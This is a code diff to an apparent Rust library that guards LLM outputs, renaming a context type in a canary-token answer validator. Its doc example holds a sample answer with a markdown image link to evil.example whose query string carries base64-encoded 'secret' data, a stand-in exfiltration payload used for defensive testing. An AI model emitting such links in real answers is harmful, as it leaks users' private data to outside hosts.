@@ -70,7 +70,7 @@
 //!
 //! ```
 //! use inference_guard::output::{AnswerValidator, Canary};
-//! use inference_guard::{Action, GuardRequest, GuardResponse, OutputContext, OutputValidator, Principal, Role};
+//! use inference_guard::{Action, GuardRequest, GuardResponse, StageContext, OutputValidator, Principal, Role};
 //!
 //! let canary = Canary::new("ig-canary-7h2k9q4m3x8w")?;
 //! let v = AnswerValidator::builder()
@@ -81,7 +81,7 @@
 //!     .with_message(Role::System, format!("You are helpful. {}", canary.token()))
 //!     .with_message(Role::User, "hi");
 //! let p = Principal::anonymous();
-//! let cx = OutputContext::new(&p, &req);
+//! let cx = StageContext::new(&p, &req);
 //!
 //! let answer = GuardResponse::new("See ![chart](https://evil.example/c.png?d=c2VjcmV0LWRhdGEtaGVyZQ)");
 //! let findings = v.validate(cx, &answer).into_ready().unwrap()?;
@@ -111,7 +111,7 @@ use crate::finding::{Action, Category, Finding, Location, Severity};
 use crate::request::{GuardRequest, Role};
 use crate::response::GuardResponse;
 use crate::scan::Scanner;
-use crate::stage::{OutputContext, OutputValidator, StreamValidator, StreamVerdict};
+use crate::stage::{OutputValidator, StageContext, StreamValidator, StreamVerdict};
 use crate::step::Step;
 
 /// A segment ends at a blank line (or, inside a top-level fenced code block, at a
@@ -708,7 +708,7 @@ fn canary_tokens(text: &str) -> impl Iterator<Item = &str> {
 impl OutputValidator for AnswerValidator {
     fn validate<'a>(
         &'a self,
-        cx: OutputContext<'a>,
+        cx: StageContext<'a>,
         response: &'a GuardResponse,
     ) -> Step<'a, Result<Vec<Finding>, StageError>> {
         let mut engine = self.engine(cx.request());
@@ -723,7 +723,7 @@ impl OutputValidator for AnswerValidator {
         Step::ready(Ok(out))
     }
 
-    fn stream(&self, cx: OutputContext<'_>) -> Option<Box<dyn StreamValidator>> {
+    fn stream(&self, cx: StageContext<'_>) -> Option<Box<dyn StreamValidator>> {
         Some(Box::new(self.engine(cx.request())))
     }
 
